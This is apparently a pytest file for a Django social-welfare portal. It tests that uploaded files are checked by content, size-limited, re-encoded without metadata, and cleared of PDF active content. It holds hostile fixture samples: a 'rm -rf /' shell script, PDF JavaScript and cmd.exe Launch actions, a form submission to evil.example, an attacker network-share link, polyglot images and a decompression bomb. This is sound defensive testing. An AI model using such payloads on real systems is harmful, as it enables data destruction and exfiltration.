"""Hostile uploads: checked by content, size-limited, images re-encoded, PDFs without active content."""

from __future__ import annotations

import datetime
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import Image

from bistand.conversation import services
from bistand.conversation.models import Upload
from bistand.core import files
from bistand.core.files import UploadRejected
from bistand.core.uploads import sanitise
from tests import samples

pytestmark = pytest.mark.django_db


def _clean(name: str, content: bytes) -> tuple[str, bytes]:
    upload = SimpleUploadedFile(name, content)
    kind = files.check(upload)
    kind, cleaned = sanitise(upload, kind)
    return kind, cleaned.read()


def _refused(name: str, content: bytes) -> str:
    with pytest.raises(UploadRejected) as refused:
        _clean(name, content)
    return refused.value.message


def test_an_executable_renamed_pdf_is_refused():
    assert "Vi kan bara ta emot" in _refused("kvitto.pdf", b"MZ\x90\x00\x03" + b"\x00" * 200)
    assert "Vi kan bara ta emot" in _refused("bild.jpg", b"#!/bin/sh\nrm -rf /\n")
    assert "Vi kan bara ta emot" in _refused("sida.png", b"<html><script>alert(1)</script></html>")
    assert "Vi kan bara ta emot" in _refused("doc.pdf", b"PK\x03\x04" + b"\x00" * 100)  # a zip / docx


def test_an_oversized_file_is_refused(settings):
    settings.UPLOAD_MAX_BYTES = 1024
    assert "för stor" in _refused("stor.pdf", samples.pdf() + b"%" + b"x" * 2000)


@pytest.mark.parametrize(
    "catalog,objects",
    [
        ("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>", ""),
        ("/OpenAction 4 0 R", "<< /S /JavaScript /JS (this.exportDataObject({cName: 'x'})) >>"),
        ("/OpenAction << /S /Launch /F (cmd.exe) >>", ""),
        ("/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>", "<< /Type /Filespec /F (a.exe) >>"),
        ("/AcroForm << /XFA 4 0 R >>", "<< /Length 0 >>"),
        ("/OpenAction << /S /SubmitForm /F (https://evil.example) >>", ""),
        ("/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>", ""),  # names written with #xx escapes
    ],
)
def test_a_pdf_with_active_content_is_refused(catalog, objects):
    message = _refused("utdrag.pdf", samples.pdf(extra_catalog=catalog, extra_objects=objects))
    assert "program" in message and "Skriv ut dokumentet" in message


def test_javascript_hidden_in_a_compressed_object_stream_is_found():
    """PDF 1.5 object streams hide names from a byte scan: the parsed document is walked too."""
    hidden = samples.pdf_with_object_stream("<< /S /JavaScript /JS (app.alert(1)) >>")
    assert b"JavaScript" not in hidden
    assert "program" in _refused("x.pdf", hidden)
    harmless = samples.pdf_with_object_stream("<< /S /GoTo /D [3 0 R /Fit] >>")
    kind, cleaned = _clean("y.pdf", harmless)
    assert kind == "pdf" and b"/OpenAction" not in cleaned


def test_a_clean_pdf_is_rewritten_without_open_actions_or_a_glued_on_payload():
    payload = b"PK\x03\x04" + b"evil zip" * 10 + b"PK\x05\x06" + b"\x00" * 18
    kind, cleaned = _clean(
        "kontoutdrag.pdf", samples.pdf(extra_catalog="/OpenAction [3 0 R /Fit]", tail=payload)
    )
    assert kind == "pdf" and cleaned.startswith(b"%PDF-")
    assert b"evil zip" not in cleaned and b"/OpenAction" not in cleaned
    from pypdf import PdfReader

    assert len(PdfReader(io.BytesIO(cleaned)).pages) == 1


def test_a_link_to_another_file_is_refused_and_annotation_actions_are_removed():
    """Issue 20 #9: /GoToR to a network path, and an annotation's /AA, survived the cleaning."""
    remote = samples.pdf(
        extra_catalog="/OpenAction << /S /GoToR /F (\\\\attacker\\share\\x.pdf) /D [0 /Fit] >>"
    )
    assert "program" in _refused("remote.pdf", remote)
    link = "<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /AA << /E << /S /GoTo /D [3 0 R /Fit] >> >> >>"
    kind, cleaned = _clean("lank.pdf", samples.pdf(extra_page="/Annots [4 0 R]", extra_objects=link))
    assert kind == "pdf" and b"/AA" not in cleaned and b"/Annot" in cleaned


def test_a_jpeg_comment_does_not_survive():
    """Issue 20 #9: Pillow wrote a JPEG's comment (COM segment) back when re-encoding."""
    out = io.BytesIO()
    Image.new("RGB", (8, 8), (30, 200, 30)).save(out, format="JPEG", comment=b"Storgatan 1, Trelleborg")
    assert b"Storgatan" in out.getvalue()
    kind, cleaned = _clean("foto.jpg", out.getvalue())
    assert kind == "jpeg" and b"Storgatan" not in cleaned


def test_broken_and_encrypted_pdfs_are_refused():
    assert "gick inte att läsa" in _refused("trasig.pdf", b"%PDF-1.7\n" + b"\x00garbage" * 50)


def test_images_are_re_encoded_without_metadata():
    exif = Image.Exif()
    exif[0x8825] = {2: (55.0, 36.0, 0.0), 4: (13.0, 0.0, 0.0)}  # GPS position: where the photo was taken
    exif[0x010F] = "Telefonmärke"
    photo = samples.jpeg(exif=exif.tobytes())
    assert b"Telefonm" in photo
    kind, cleaned = _clean("foto.jpg", photo)
    assert kind == "jpeg" and b"Telefonm" not in cleaned and b"Exif" not in cleaned
    assert Image.open(io.BytesIO(cleaned)).size == (8, 8)


def test_a_polyglot_image_loses_its_payload():
    """A PNG with an HTML/JS payload appended (it would run if a browser ever sniffed it as a page)."""
    polyglot = samples.png() + b"<html><script>fetch('/casework/')</script></html>"
    kind, cleaned = _clean("bild.png", polyglot)
    assert kind == "png" and b"<script>" not in cleaned


def test_a_decompression_bomb_is_refused_before_decoding(settings):
    settings.UPLOAD_MAX_PIXELS = 4_000_000
    out = io.BytesIO()
    Image.new("1", (8000, 8000)).save(out, format="PNG")  # tiny file, 64 megapixels
    bomb = out.getvalue()
    assert len(bomb) < 100_000
    assert "för hög upplösning" in _refused("bomb.png", bomb)


def test_a_truncated_image_is_refused():
    assert "gick inte att läsa" in _refused("halv.jpg", samples.jpeg((64, 64))[:60])


def test_heic_photos_are_kept_as_jpeg():
    kind, cleaned = _clean("IMG_0001.HEIC", samples.heic())
    assert kind == "jpeg" and cleaned.startswith(b"\xff\xd8\xff")


def test_the_portal_stores_only_the_cleaned_file(client, citizen, unit, caseworker):
    from bistand.cases.models import Case

    case = Case.objects.create(applicant=citizen.person, unit=unit)
    request = services.request_documents(case, "Kontoutdrag.", datetime.date(2026, 12, 10), caseworker)
    client.force_login(citizen)
    url = reverse("portal:request", args=[request.pk])
    hostile = samples.pdf(extra_catalog="/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")
    page = client.post(url, {"action": "upload", "file": SimpleUploadedFile("utdrag.pdf", hostile)})
    assert page.status_code == 200 and "program" in page.content.decode()
    assert not Upload.objects.exists()
    photo = samples.png() + b"<script>alert(1)</script>"
    assert (
        client.post(url, {"action": "upload", "file": SimpleUploadedFile("a.png", photo)}).status_code == 302
    )
    stored = Upload.objects.get()
    content = stored.file.read()
    assert b"<script>" not in content and stored.size == len(content)
    import hashlib

    assert stored.sha256 == hashlib.sha256(content).hexdigest()
